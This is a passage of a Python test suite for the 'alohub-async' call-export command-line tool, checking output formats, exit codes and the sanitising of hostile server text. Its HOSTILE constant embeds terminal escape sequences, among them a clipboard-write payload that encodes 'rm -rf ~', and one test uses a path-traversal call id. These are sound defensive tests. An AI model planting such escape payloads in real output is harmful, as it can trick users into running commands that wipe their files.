"""The ``alohub-async`` command: output formats, options, exit codes, demo and fake server."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import re
import shlex
import signal
import socket
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from alohub_async.cli import CSV_FIELDS, ExitCode, _fake_server, _output, main, run
from alohub_async.testing import (
    DEMO_ACCESS_TOKEN,
    DEMO_API_KEY,
    CallDataset,
    FakeAlohub,
    Fault,
)
from tests.cli_helpers import (
    ENV_NAMES,
    POSIX_ONLY,
    WAIT,
    FakeTty,
    ServerProcess,
    child_env,
    cli_command,
    connect,
    fake_server,
)

API_KEY = "cli-api-key-SECRET-4711"
ACCESS_TOKEN = "cli-access-token-SECRET-0815"
CALLS = 120
RANGE = ["--start", "2026-01-01", "--end", "2026-01-31"]
WIRE_RANGE = ("2026-01-01T00:00:00+07:00", "2026-01-31T23:59:59+07:00")
UNKNOWN_ID = "20200101000000-AAAAAAAA-100"


class ClosedPipe(io.StringIO):
    """A stdout whose reader went away."""

    def write(self, text: str) -> int:
        raise BrokenPipeError(32, "Broken pipe")


@pytest.fixture(autouse=True)
def no_alohub_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """Keep the developer's own ALOHUB_* variables out of every test."""
    for name in ENV_NAMES:
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
async def fake() -> AsyncIterator[FakeAlohub]:
    """A fake Alohub with its own credentials and CALLS calls."""
    async with FakeAlohub(calls=CALLS, seed=7, api_key=API_KEY, access_token=ACCESS_TOKEN) as f:
        yield f


def expected_ids(fake: FakeAlohub) -> list[str]:
    """The call ids the fake serves for RANGE, in server order."""
    return [_id(record) for record in fake.expected_records(*WIRE_RANGE)]


def _id(record: dict[str, Any]) -> str:
    """A served record's id, in the evidenced or the camel vocabulary."""
    return str(record.get("call_id", record.get("callId")))


def answered_id(fake: FakeAlohub) -> str:
    """The id of a call that has a transcript."""
    records = fake.expected_records(*WIRE_RANGE)
    return next(
        _id(r) for r in records if str(r.get("call_status", r.get("status"))).lower() == "answered"
    )


def one_error_line(err: str) -> str:
    """Return the only line of ``err``, checking it is a CLI error line."""
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("alohub-async: error: ")
    return lines[0]


def free_port() -> int:
    """Return a port on 127.0.0.1 that nothing listens on."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


@pytest.fixture(scope="module")
def server() -> Iterator[ServerProcess]:
    """One fake-server subprocess with 500 calls and no latency, shared by the module."""
    with fake_server("--calls", "500", "--latency", "0") as process:
        yield process


def server_env(server: ServerProcess) -> dict[str, str]:
    """The environment the banner's ``export`` line sets, on top of child_env()."""
    export = next(line for line in server.banner if line.strip().startswith("export "))
    pairs = dict(item.split("=", 1) for item in shlex.split(export.strip())[1:])
    return child_env(**pairs)


# --- calls list: formats ------------------------------------------------------------------


async def test_list_jsonl_prints_every_call_in_server_order(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--format jsonl`` prints one JSON object per call, in server order."""
    assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["call_id"] for line in lines] == expected_ids(fake)
    assert len(lines) == CALLS


async def test_list_jsonl_rows_are_the_unstructured_records(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each JSON line has the model's fields, ISO datetimes with offset, no ``raw``."""
    await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl"))
    row = json.loads(capsys.readouterr().out.splitlines()[0])
    assert tuple(row) == CSV_FIELDS
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00", row["started_at"])
    assert row["direction"] in {"inbound", "outbound", "internal"}


async def test_list_jsonl_keeps_vietnamese_text_unescaped(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """JSON lines are written with ensure_ascii=False: names stay readable."""
    await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl"))
    out = capsys.readouterr().out
    assert "\\u" not in out
    assert re.search(r"[ăâđêôơư]", out)


async def test_list_csv_parses_with_dictreader(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--format csv`` gives one header row and one row per call."""
    await run(connect(fake, "calls", "list", *RANGE, "--format", "csv"))
    reader = csv.DictReader(io.StringIO(capsys.readouterr().out))
    rows = list(reader)
    assert tuple(reader.fieldnames or ()) == CSV_FIELDS
    assert [row["call_id"] for row in rows] == expected_ids(fake)


async def test_list_csv_of_an_empty_range_is_just_the_header(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """An empty range still writes the CSV header, once."""
    args = ["--start", "2020-01-01", "--end", "2020-01-02", "--format", "csv"]
    assert await run(connect(fake, "calls", "list", *args)) == 0
    assert capsys.readouterr().out == ",".join(CSV_FIELDS) + "\n"


async def test_list_table_has_fixed_width_columns(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """The default table prints a header, then one row per call with aligned columns."""
    await run(connect(fake, "calls", "list", *RANGE))
    header, *rows = capsys.readouterr().out.splitlines()
    assert header.split()[:3] == ["CALL", "ID", "STARTED"]
    assert len(rows) == CALLS
    started = header.index("STARTED")
    assert all(
        re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", r[started : started + 19]) for r in rows
    )


async def test_list_output_writes_the_file(
    fake: FakeAlohub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--output FILE`` writes the records to FILE (UTF-8) and nothing to stdout."""
    target = tmp_path / "calls.jsonl"
    args = connect(fake, "calls", "list", *RANGE, "--format", "jsonl", "--output", str(target))
    assert await run(args) == 0
    assert capsys.readouterr().out == ""
    assert len(target.read_text(encoding="utf-8").splitlines()) == CALLS


async def test_list_page_size_and_concurrency_reach_the_server(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--page-size`` is the ``limit`` of every list request."""
    args = ["--format", "jsonl", "--page-size", "7", "--concurrency", "3"]
    await run(connect(fake, "calls", "list", *RANGE, *args))
    assert {limit for _, limit in fake.counters.list_pages} == {7}
    assert len(capsys.readouterr().out.splitlines()) == CALLS


async def test_list_exports_in_pages_of_the_api_maximum_by_default(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """A bulk export asks for pages of 100 (the API's recommended maximum), 8 at once."""
    await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl"))
    assert {limit for _, limit in fake.counters.list_pages} == {100}
    assert fake.counters.max_in_flight <= 8
    assert len(capsys.readouterr().out.splitlines()) == CALLS


# --- options ----------------------------------------------------------------------------


async def test_global_options_also_work_after_the_subcommand(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--api-key``/``--access-token``/``--base-url`` may follow ``calls list``."""
    args = ["calls", "list", *RANGE, "--format", "jsonl", *connect(fake)]
    assert await run(args) == 0
    assert len(capsys.readouterr().out.splitlines()) == CALLS


async def test_credentials_come_from_the_environment(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without flags, ALOHUB_API_KEY, ALOHUB_ACCESS_TOKEN and ALOHUB_BASE_URL are used."""
    monkeypatch.setenv("ALOHUB_API_KEY", fake.api_key)
    monkeypatch.setenv("ALOHUB_ACCESS_TOKEN", fake.access_token)
    monkeypatch.setenv("ALOHUB_BASE_URL", fake.url)
    assert await run(["calls", "list", *RANGE, "--format", "jsonl"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == CALLS


async def test_tz_option_changes_the_output_offset(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--tz UTC`` reads the range and writes the times in UTC."""
    args = ["--tz", "UTC", "calls", "list", "--start", "2025-12-01", "--end", "2026-02-01"]
    await run(connect(fake, *args, "--format", "jsonl"))
    row = json.loads(capsys.readouterr().out.splitlines()[0])
    assert row["started_at"].endswith("+00:00")


async def test_version_prints_the_version(capsys: pytest.CaptureFixture[str]) -> None:
    """``--version`` prints the program name and version and exits 0."""
    assert await run(["--version"]) == 0
    assert re.fullmatch(r"alohub-async \S+\n", capsys.readouterr().out)


async def test_help_documents_the_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    """``--help`` exits 0 and its epilog lists every exit code."""
    assert await run(["--help"]) == 0
    out = capsys.readouterr().out
    for code in ExitCode:
        assert re.search(rf"^  {code.value}\s", out, re.MULTILINE), code


# --- progress line ----------------------------------------------------------------------


async def test_progress_line_absent_when_stderr_is_not_a_tty(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """Off a terminal, ``calls list`` writes nothing at all on stderr."""
    assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 0
    assert capsys.readouterr().err == ""


async def test_progress_line_on_a_tty_is_redrawn_then_cleared(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal, the line is rewritten with ``\\r``, erased, then a summary is printed."""
    tty = FakeTty()
    monkeypatch.setattr(sys, "stderr", tty)
    monkeypatch.setattr(_output, "PROGRESS_INTERVAL", 0.0)
    await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl", "--page-size", "10"))
    text = tty.getvalue()
    drawn, erased, summary = text.rsplit("\r", 2)
    assert re.search(r"\d+ calls, \d+ pages, [\d,]+ calls/s", drawn)
    assert erased.strip() == ""
    assert summary.startswith(f"{CALLS} calls, 12 pages")
    assert summary.count("\n") == 1


async def test_quiet_silences_progress_and_summary_on_a_tty(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--quiet`` leaves stderr empty even on a terminal."""
    tty = FakeTty()
    monkeypatch.setattr(sys, "stderr", tty)
    monkeypatch.setattr(_output, "PROGRESS_INTERVAL", 0.0)
    await run(connect(fake, "--quiet", "calls", "list", *RANGE, "--format", "jsonl"))
    assert tty.getvalue() == ""


async def test_no_progress_line_when_records_go_to_the_same_terminal(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When stdout is the terminal too, the rows are the progress: no ``\\r`` line."""
    out, err = FakeTty(), FakeTty()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setattr(_output, "PROGRESS_INTERVAL", 0.0)
    await run(connect(fake, "calls", "list", *RANGE))
    assert "\r" not in err.getvalue()
    assert len(out.getvalue().splitlines()) == CALLS + 1


# --- calls get ----------------------------------------------------------------------------


async def test_get_prints_details_and_transcript(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``calls get`` prints the call's fields and every transcript segment."""
    call_id = answered_id(fake)
    assert await run(connect(fake, "calls", "get", call_id)) == 0
    out = capsys.readouterr().out
    detail = fake.expected_detail(call_id)
    assert detail is not None
    assert out.startswith(f"Call {call_id}\n")
    assert f"Transcript ({len(detail['transcript'])} segments):" in out
    for segment in detail["transcript"]:
        assert f"{segment['speaker']}: {segment['text']}" in out


async def test_get_without_transcript_says_so(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """A call that was not answered prints ``Transcript: none``."""
    records = fake.expected_records(*WIRE_RANGE)
    call_id = next(r["call_id"] for r in records if r["call_status"] != "answered")
    await run(connect(fake, "calls", "get", call_id))
    assert "Transcript: none" in capsys.readouterr().out


async def test_get_json_is_valid_json_with_the_transcript(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``calls get --json`` prints the detail as one JSON document, transcript included."""
    call_id = answered_id(fake)
    assert await run(connect(fake, "calls", "get", call_id, "--json")) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["call_id"] == call_id
    assert data["transcript"]["segments"][0]["speaker"] == "agent"


# --- exit codes ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "dates",
    [
        ["--start", "2026-13-01", "--end", "2026-01-31"],
        ["--start", "yesterday", "--end", "2026-01-31"],
        ["--start", "2026-02-01", "--end", "2026-01-31"],
    ],
    ids=["bad-month", "not-iso", "start-after-end"],
)
async def test_bad_dates_exit_2_before_any_request(
    fake: FakeAlohub, dates: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """An unreadable or reversed range exits 2 with one line, and sends nothing."""
    assert await run(connect(fake, "calls", "list", *dates)) == ExitCode.USAGE
    out, err = capsys.readouterr()
    assert "start" in one_error_line(err)
    assert (out, fake.counters.requests) == ("", 0)


@pytest.mark.parametrize(
    "args",
    [
        ["calls", "list", "--start", "2026-01-01"],
        ["calls", "list", *RANGE, "--format", "xml"],
        ["calls", "list", *RANGE, "--page-size", "many"],
        ["calls", "frobnicate"],
        ["calls"],
    ],
    ids=["missing-end", "bad-format", "not-an-int", "unknown-command", "no-subcommand"],
)
async def test_usage_errors_exit_2(args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """argparse errors exit 2 with the usage and one error line, never SystemExit."""
    assert await run(args) == ExitCode.USAGE
    err = capsys.readouterr().err
    assert err.startswith("usage: alohub-async")
    assert err.splitlines()[-1].startswith("alohub-async: error: ")


async def test_no_command_prints_help_and_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    """Without a command, the help goes to stderr and the exit code is 2."""
    assert await run([]) == ExitCode.USAGE
    assert "commands:" in capsys.readouterr().err


@pytest.mark.parametrize(
    "args",
    [
        ["--page-size", "0"],
        ["--concurrency", "-1"],
        ["--tz", "Mars/Olympus_Mons"],
        ["--timeout", "0"],
        ["--max-retries", "-1"],
    ],
)
async def test_bad_option_values_exit_2(
    fake: FakeAlohub, args: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Option values the client refuses exit 2 with one line."""
    assert await run(connect(fake, "calls", "list", *RANGE, *args)) == ExitCode.USAGE
    one_error_line(capsys.readouterr().err)


async def test_unsafe_call_id_exits_2(fake: FakeAlohub, capsys: pytest.CaptureFixture[str]) -> None:
    """A call id that could change the URL exits 2 before any request."""
    assert await run(connect(fake, "calls", "get", "../admin")) == ExitCode.USAGE
    one_error_line(capsys.readouterr().err)
    assert fake.counters.requests == 0


async def test_unwritable_output_exits_2(
    fake: FakeAlohub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An ``--output`` path that cannot be created exits 2, naming it."""
    target = tmp_path / "missing" / "calls.csv"
    args = connect(fake, "calls", "list", *RANGE, "--output", str(target))
    assert await run(args) == ExitCode.USAGE
    assert str(target) in one_error_line(capsys.readouterr().err)


async def test_http_base_url_for_a_remote_host_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    """A plain-http base URL that is not loopback exits 2 (credentials stay off the wire)."""
    args = ["--base-url", "http://alohub.test", "--api-key", API_KEY, "--access-token", "t" * 9]
    assert await run([*args, "calls", "get", UNKNOWN_ID]) == ExitCode.USAGE
    assert "https" in one_error_line(capsys.readouterr().err)


async def test_wrong_token_exits_3_without_leaking_secrets(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """A refused token exits 3; neither the key nor either token appears in the output."""
    wrong = "wrong-token-SECRET-9999"
    args = ["--base-url", fake.url, "--api-key", API_KEY, "--access-token", wrong]
    assert await run([*args, "calls", "list", *RANGE]) == ExitCode.AUTH
    out, err = capsys.readouterr()
    assert "401" in one_error_line(err)
    assert out == ""
    for secret in (API_KEY, ACCESS_TOKEN, wrong):
        assert secret not in out + err


async def test_forbidden_exits_3(fake: FakeAlohub, capsys: pytest.CaptureFixture[str]) -> None:
    """HTTP 403 exits 3 like a refused login."""
    fake.script(Fault.status(403))
    assert await run(connect(fake, "calls", "get", answered_id(fake))) == ExitCode.AUTH
    assert "403" in one_error_line(capsys.readouterr().err)


@pytest.mark.parametrize("flag", ["--api-key", "--access-token"])
async def test_missing_credentials_exit_3_naming_flag_and_variable(
    fake: FakeAlohub, flag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a key or token, ``calls`` exits 3 and says which flag or variable to set."""
    args = connect(fake, "calls", "list", *RANGE)
    del args[args.index(flag) : args.index(flag) + 2]
    assert await run(args) == ExitCode.AUTH
    line = one_error_line(capsys.readouterr().err)
    variable = "ALOHUB_API_KEY" if flag == "--api-key" else "ALOHUB_ACCESS_TOKEN"
    assert flag in line
    assert variable in line
    assert fake.counters.requests == 0


async def test_unknown_call_exits_4(fake: FakeAlohub, capsys: pytest.CaptureFixture[str]) -> None:
    """A call id the server does not know exits 4."""
    assert await run(connect(fake, "calls", "get", UNKNOWN_ID)) == ExitCode.NOT_FOUND
    assert UNKNOWN_ID in one_error_line(capsys.readouterr().err)


async def test_refused_connection_exits_5(capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing listening on the port exits 5 with one line."""
    base = f"http://127.0.0.1:{free_port()}"
    args = ["--base-url", base, "--api-key", API_KEY, "--access-token", ACCESS_TOKEN]
    assert await run([*args, "--max-retries", "0", "calls", "list", *RANGE]) == ExitCode.NETWORK
    err = capsys.readouterr().err
    one_error_line(err)
    assert API_KEY not in err
    assert ACCESS_TOKEN not in err


@pytest.mark.parametrize(
    "fault",
    [Fault.status(503, html=True), Fault.status(429), Fault.reset(), Fault.hang(5)],
    ids=["503-html", "429", "reset", "timeout"],
)
async def test_server_and_network_failures_exit_5(
    fake: FakeAlohub, fault: Fault, capsys: pytest.CaptureFixture[str]
) -> None:
    """5xx, 429, a reset connection and a timeout exit 5 once retries are exhausted."""
    fake.script(fault)
    args = ["--max-retries", "0", "--timeout", "0.5", "calls", "list", *RANGE]
    assert await run(connect(fake, *args)) == ExitCode.NETWORK
    one_error_line(capsys.readouterr().err)


@pytest.mark.parametrize(
    "fault",
    [Fault.failure_body("SYSTEM_ERROR", "Hệ thống bận"), Fault.malformed_json(), Fault.status(418)],
    ids=["failure-body", "malformed-json", "418"],
)
async def test_unexpected_responses_exit_6(
    fake: FakeAlohub, fault: Fault, capsys: pytest.CaptureFixture[str]
) -> None:
    """A body that reports failure, unreadable JSON or an odd status exits 6."""
    fake.script(fault)
    assert await run(connect(fake, "calls", "list", *RANGE)) == ExitCode.RESPONSE
    one_error_line(capsys.readouterr().err)


async def test_failure_mid_walk_keeps_the_prefix_written(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """A page that finally fails exits non-zero after every earlier record was written."""
    fake.fail_page(3, Fault.status(503))
    args = ["--max-retries", "0", "calls", "list", *RANGE, "--format", "jsonl", "--page-size", "50"]
    assert await run(connect(fake, *args)) == ExitCode.NETWORK
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["call_id"] for line in lines] == expected_ids(fake)[:100]


async def test_retried_failures_are_invisible(
    fake: FakeAlohub, no_retry_waits: None, capsys: pytest.CaptureFixture[str]
) -> None:
    """A transient 503 is retried: exit 0, every call, and no log line on stderr."""
    fake.fail_page(2, Fault.status(503))
    assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 0
    out, err = capsys.readouterr()
    assert (len(out.splitlines()), err) == (CALLS, "")


async def test_error_message_is_one_line_for_an_html_body(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """A multi-line HTML error page is folded into a single stderr line."""
    fake.script(Fault.status(502, html=True))
    await run(connect(fake, "--max-retries", "0", "calls", "get", answered_id(fake)))
    assert "502" in one_error_line(capsys.readouterr().err)


async def test_closed_stdout_exits_141_quietly(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A broken pipe on stdout ends the walk with 141 and no message."""
    monkeypatch.setattr(sys, "stdout", ClosedPipe())
    assert await run(connect(fake, "calls", "list", *RANGE)) == ExitCode.BROKEN_PIPE
    assert capsys.readouterr().err == ""


async def test_unencodable_output_exits_2_with_advice(
    fake: FakeAlohub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A stdout that cannot encode Vietnamese exits 2 and suggests ``--output``."""
    ascii_out = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    monkeypatch.setattr(sys, "stdout", ascii_out)
    assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 2
    assert "--output" in one_error_line(capsys.readouterr().err)


# --- hostile text: terminal escapes and spreadsheet formulas ---------------------------------

#: Escape sequences a hostile backend may put in any text: an OSC 52 clipboard write, a
#: title change, a screen clear, an 8-bit CSI, a bidi override and isolate, DEL, BS and CR.
HOSTILE = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x08\r"
#: How the CLI shows HOSTILE on a terminal: the same characters, spelled as escapes.
VISIBLE = r"\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x08\r"
#: Characters a terminal may act on (line feeds end the CLI's own lines, so they are allowed).
ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


class HostileData(CallDataset):
    """The synthetic calls as a hostile backend serves them: chosen text replaced.

    ``fields`` replace the record's values (list and detail); ``id_prefix`` goes in front of
    each ``callId`` (so ids stay distinct); ``transcript`` goes in front of every segment's
    text and speaker, or, with ``plain_transcript``, becomes the second line of a transcript
    served as one string.
    """

    def __init__(
        self,
        *,
        fields: dict[str, str] | None = None,
        id_prefix: str = "",
        transcript: str = "",
        plain_transcript: bool = False,
    ) -> None:
        # The camel vocabulary: the tests below name its keys (callId, agentName, ...).
        super().__init__(CALLS, 7, vocabulary="camel")
        self.fields = fields or {}
        self.id_prefix = id_prefix
        self.transcript = transcript
        self.plain_transcript = plain_transcript

    def _taint(self, record: dict[str, Any]) -> dict[str, Any]:
        return {**record, **self.fields, "callId": self.id_prefix + record["callId"]}

    def page(self, start: Any, end: Any, page: int, limit: int) -> tuple[list[dict[str, Any]], int]:
        records, total = super().page(start, end, page, limit)
        return [self._taint(record) for record in records], total

    def detail(self, call_id: str) -> dict[str, Any] | None:
        detail = super().detail(call_id)
        if detail is None:
            return None
        detail = self._taint(detail)
        segments = detail["transcript"] or []
        if self.plain_transcript:
            detail["transcript"] = f"first line\n{self.transcript}second line"
        for segment in segments:
            segment["text"] = self.transcript + segment["text"]
            segment["speaker"] = self.transcript + segment["speaker"]
        return detail


@contextlib.asynccontextmanager
async def serving(data: CallDataset) -> AsyncIterator[FakeAlohub]:
    """Run a fake Alohub that serves ``data``."""
    fake = FakeAlohub(api_key=API_KEY, access_token=ACCESS_TOKEN)
    fake.data = data
    async with fake:
        yield fake


@contextlib.asynccontextmanager
async def raw_server(status: int, body: bytes, content_type: str) -> AsyncIterator[str]:
    """Serve ``body`` with ``status`` to every request, bytes as given; yield the base URL."""

    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(status=status, body=body, content_type=content_type)

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = runner.addresses[0][1]
        yield f"http://127.0.0.1:{port}"
    finally:
        await runner.cleanup()


def raw_args(base_url: str, *args: str) -> list[str]:
    """The arguments that point the CLI at a raw server, then ``args``."""
    return ["--base-url", base_url, "--api-key", API_KEY, "--access-token", ACCESS_TOKEN, *args]


async def test_table_shows_escape_sequences_as_visible_text(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Escapes in any field reach the table as visible text, one call per line."""
    data = HostileData(fields={"agentName": HOSTILE, "caller": HOSTILE}, id_prefix=HOSTILE)
    async with serving(data) as fake:
        assert await run(connect(fake, "calls", "list", *RANGE)) == 0
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    rows = out.splitlines()[1:]
    assert len(rows) == CALLS
    assert all(row.startswith("\\x1b]52;c;") for row in rows)
    assert all(row.endswith(f"  {VISIBLE}") for row in rows)  # AGENT, the last column


@pytest.mark.parametrize(
    ("char", "shown"),
    [
        ("\x00", r"\x00"),
        ("\x1b", r"\x1b"),
        ("\t", r"\t"),
        ("\n", r"\n"),
        ("\x85", r"\x85"),
        ("\x9b", r"\x9b"),
        ("\u061c", r"\u061c"),
        ("\u200f", r"\u200f"),
        ("\u2028", r"\u2028"),
        ("\u202e", r"\u202e"),
        ("\u2067", r"\u2067"),
    ],
)
async def test_each_kind_of_control_character_is_escaped(
    char: str, shown: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """C0, C1, bidi and line-separator characters each get a visible escape in the table."""
    async with serving(HostileData(fields={"agentName": f"a{char}b"})) as fake:
        assert await run(connect(fake, "calls", "list", *RANGE)) == 0
    rows = capsys.readouterr().out.splitlines()[1:]
    assert len(rows) == CALLS
    assert all(row.endswith(f"  a{shown}b") for row in rows)


async def test_lone_surrogate_is_shown_in_the_table_and_exact_in_jsonl(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A lone surrogate (valid JSON, unencodable) is escaped in the table, exact in JSONL."""
    body = b'{"success": "1", "data": [{"callId": "c1", "agentName": "a\\ud800b"}], "total": 1}'
    async with raw_server(200, body, "application/json") as url:
        assert await run(raw_args(url, "calls", "list", *RANGE)) == 0
        assert capsys.readouterr().out.splitlines()[1].endswith(r"  a\ud800b")
        assert await run(raw_args(url, "calls", "list", *RANGE, "--format", "jsonl")) == 0
        assert json.loads(capsys.readouterr().out)["agent"] == "a\ud800b"


async def test_jsonl_is_exact_and_safe_for_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """JSON lines decode to the exact text; DEL, C1 and bidi characters are JSON-escaped."""
    data = HostileData(fields={"agentName": HOSTILE, "customerName": "Bùi" + HOSTILE})
    async with serving(data) as fake:
        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 0
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    rows = [json.loads(line) for line in out.splitlines()]
    assert len(rows) == CALLS
    assert all(row["agent"] == HOSTILE for row in rows)
    assert all(row["customer_name"] == "Bùi" + HOSTILE for row in rows)
    assert "Bùi" in out  # non-ASCII text stays readable


async def test_get_shows_escapes_in_fields_and_transcript_as_visible_text(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``calls get`` shows the server's id, fields, speakers and lines with visible escapes."""
    data = HostileData(fields={"agentName": HOSTILE}, id_prefix=HOSTILE, transcript=HOSTILE)
    async with serving(data) as fake:
        assert await run(connect(fake, "calls", "get", answered_id(fake))) == 0
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    lines = out.splitlines()
    assert lines[0].startswith(f"Call {VISIBLE}")
    assert f"  agent      {VISIBLE}" in lines
    segments = [line for line in lines if line.startswith("  [")]
    assert segments
    assert all(f"] {VISIBLE}" in line and f": {VISIBLE}" in line for line in segments)


async def test_get_plain_transcript_keeps_its_lines_and_escapes_the_rest(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A transcript served as one string keeps its line breaks; escapes inside are visible."""
    async with serving(HostileData(transcript=HOSTILE, plain_transcript=True)) as fake:
        assert await run(connect(fake, "calls", "get", answered_id(fake))) == 0
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    # HOSTILE ends with CR: in plain text, a line break like any other.
    shown = VISIBLE.removesuffix(r"\r")
    assert out.endswith(f"Transcript:\n  first line\n  {shown}\n  second line\n")


async def test_get_json_is_exact_and_safe_for_a_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``calls get --json`` decodes to the exact server text, and shows none of it raw."""
    data = HostileData(fields={"agentName": HOSTILE}, id_prefix=HOSTILE, transcript=HOSTILE)
    async with serving(data) as fake:
        call_id = answered_id(fake)
        assert await run(connect(fake, "calls", "get", call_id, "--json")) == 0
        served = data.detail(call_id)
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    detail = json.loads(out)
    assert served is not None
    assert detail["call_id"] == HOSTILE + call_id
    assert detail["agent"] == HOSTILE
    assert [(s["speaker"], s["text"]) for s in detail["transcript"]["segments"]] == [
        (s["speaker"], s["text"]) for s in served["transcript"]
    ]


@pytest.mark.parametrize(
    ("status", "code"), [(418, ExitCode.RESPONSE), (500, ExitCode.NETWORK)], ids=["418", "500"]
)
async def test_server_error_text_with_escapes_is_shown_visibly_on_stderr(
    status: int, code: ExitCode, capsys: pytest.CaptureFixture[str]
) -> None:
    """An error body of raw escape sequences reaches stderr as one line of visible text."""
    async with raw_server(status, HOSTILE.encode(), "text/plain") as url:
        args = raw_args(url, "--max-retries", "0", "calls", "list", *RANGE)
        assert await run(args) == code
    out, err = capsys.readouterr()
    assert ACTING.search(err.removesuffix("\n")) is None
    assert r"\x1b]52;c;cm0gLXJmIH4K\x07" in one_error_line(err)
    assert out == ""


@pytest.mark.parametrize(
    "fault",
    [Fault.status(404, message=HOSTILE), Fault.failure_body("X", HOSTILE)],
    ids=["404-json", "failure-body"],
)
async def test_server_error_message_with_escapes_is_shown_visibly(
    fault: Fault, capsys: pytest.CaptureFixture[str]
) -> None:
    """The backend's JSON ``error_message`` never reaches stderr with a raw control."""
    async with serving(HostileData()) as fake:
        fake.script(fault)
        assert await run(connect(fake, "calls", "get", answered_id(fake))) != 0
    err = capsys.readouterr().err
    one_error_line(err)
    assert ACTING.search(err.removesuffix("\n")) is None


async def test_demo_shows_server_text_visibly(
    no_retry_waits: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The demo prints ids, numbers and transcript lines of its server as visible text."""

    class HostileFake(FakeAlohub):
        def __init__(self, **kwargs: Any) -> None:
            super().__init__(**kwargs)
            # Not the ids: the demo fetches details by id, and refuses unsafe ones.
